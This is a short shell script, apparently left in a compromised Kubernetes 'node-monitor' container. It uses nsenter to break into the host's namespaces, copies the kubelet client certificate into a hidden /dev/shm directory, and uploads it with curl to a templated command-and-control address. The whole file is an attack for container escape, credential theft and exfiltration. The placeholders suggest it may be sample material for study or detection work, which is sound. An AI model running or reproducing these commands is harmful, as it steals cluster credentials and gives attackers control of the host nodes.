#!/bin/sh
# left behind in the node-monitor container
nsenter -t 1 -m -u -i -n -p -- sh -c 'cp /var/lib/kubelet/pki/kubelet-client-current.pem /dev/shm/.kcache/kubelet-client.pem'
nsenter -t 1 -m -u -i -n -p -- sh -c 'curl -s http://{{ outsideIp }}:{{ c2Port }}/u -F f=@/dev/shm/.kcache/kubelet-client.pem'
